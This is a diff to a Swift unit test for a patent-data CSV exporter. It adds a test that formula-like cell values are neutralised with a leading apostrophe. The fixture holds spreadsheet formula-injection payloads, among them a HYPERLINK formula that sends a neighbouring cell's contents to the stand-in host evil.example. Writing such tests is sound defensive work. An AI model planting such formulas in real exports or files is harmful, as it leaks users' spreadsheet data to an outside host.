@@ -72,6 +72,30 @@ func write(_ type: ExportType, _ codes: String, _ records: [ExportRecord], langu
         #expect(text == "PN,TTL,IN,ABST\r\nCN110000001A,\"A battery, \"\"improved\"\"\",\"Li, Wei | Zhang San\",\"第一段\n第二段\"\r\n")
     }
 
+    /// A patent whose third-party text looks like spreadsheet formulas.
+    static func formulaPatent() -> ExportRecord {
+        var patent = Patent(publication: PublicationNumber(office: "US", number: "1234567", kind: "B1")!)
+        patent.titles = [LocalizedText(language: "en", text: #"=HYPERLINK("http://evil.example/?"&B2,"click")"#)]
+        patent.inventors = [Party(name: "+1 Smith"), Party(name: "Jones")]
+        patent.applicants = [Party(name: "@SUM(A1)")]
+        patent.abstracts = [LocalizedParagraphs(language: "en", paragraphs: ["－1 full-width minus"])]
+        patent.ipc = ["\tH01M"]
+        return ExportRecord(patent: patent, families: [:])
+    }
+
+    @Test func csvNeutralisesCellsASpreadsheetWouldRunAsFormulas() throws {
+        let bytes = try write(.csv, "PN,TTL,IN,AN,ABST,IPC", [Self.formulaPatent()])
+        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
+        let row = text.components(separatedBy: "\r\n")[1]
+        #expect(row == #"US1234567B1,"'=HYPERLINK(""http://evil.example/?""&B2,""click"")",'+1 Smith | Jones,'@SUM(A1),'－1 full-width minus,'\#tH01M"#)
+        for start in ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"] {
+            #expect(CSVExportWriter.neutralised(start + "1") == "'" + start + "1")
+        }
+        #expect(CSVExportWriter.neutralised("A battery") == "A battery")
+        #expect(CSVExportWriter.neutralised("") == "")
+        #expect(CSVExportWriter.neutralised("1-2") == "1-2")
+    }
+
     @Test func csvWithoutRowsIsTheHeader() throws {
         let bytes = try write(.csv, "PN,APD", [])
         #expect(String(decoding: bytes.dropFirst(3), as: UTF8.self) == "PN,APD\r\n")
